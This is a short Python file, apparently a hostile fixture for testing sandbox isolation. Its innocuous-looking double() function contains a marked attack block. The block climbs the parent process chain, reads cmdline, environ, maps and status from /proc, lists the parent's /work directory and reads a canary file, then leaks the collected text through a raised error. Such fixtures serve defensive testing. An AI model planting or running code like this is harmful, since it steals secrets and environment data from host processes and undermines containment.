# hostile read_proc_parent: read /proc/<parent>/{cmdline,environ,maps,root} and walk the parent's root
import numpy as np
import os


def double(x):
    # ATTACK
    out = []
    pid = os.getppid()
    for _ in range(6):
        for leaf in ("cmdline", "environ", "maps", "status"):
            try:
                out.append(open(f"/proc/{pid}/{leaf}", "rb").read(4000).decode("latin-1"))
            except OSError:
                pass
        try:
            out.append(" ".join(os.listdir(f"/proc/{pid}/root/work")))
            out.append(open(f"/proc/{pid}/root@CANARY_FILE@").read())
        except OSError:
            pass
        try:
            pid = int(open(f"/proc/{pid}/stat").read().split(") ")[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
    text = "\n".join(out)
    raise RuntimeError(text[-1800:])
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
